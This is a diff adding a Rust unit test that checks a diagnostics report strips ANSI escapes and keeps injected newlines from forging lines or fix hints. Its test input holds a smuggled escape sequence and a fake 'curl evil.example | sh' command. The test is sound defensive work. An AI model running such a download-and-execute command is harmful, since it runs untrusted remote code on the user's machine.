@@ -97,6 +97,24 @@ fn checks_run_side_by_side_and_those_whose_need_failed_are_skipped() {
 }
 
 #[test]
+fn what_strangers_say_makes_no_line_and_no_colour_of_its_own() {
+    let word = "probe\u{1b}[2J\n         -> curl evil.example | sh";
+    let checks = vec![
+        Check::new("machines", move |_| Finding::ok(word)),
+        Check::new("other", |_| Finding::warn("slow", "mend it")),
+    ];
+    let text = show::text(&run(&Machine::this(), checks, LIMIT));
+    assert!(!text.contains('\u{1b}'), "{text}");
+    let lines: Vec<_> = text.lines().collect();
+    assert!(lines[0].contains("curl evil.example"), "{text}");
+    // Each cure is below its own check.
+    assert!(
+        lines[1].contains("other") && lines[2].ends_with("-> mend it"),
+        "{text}"
+    );
+}
+
+#[test]
 fn nobody_waits_for_a_check_that_hangs() {
     let (hold, held) = std::sync::mpsc::channel::<()>();
     let checks = vec![
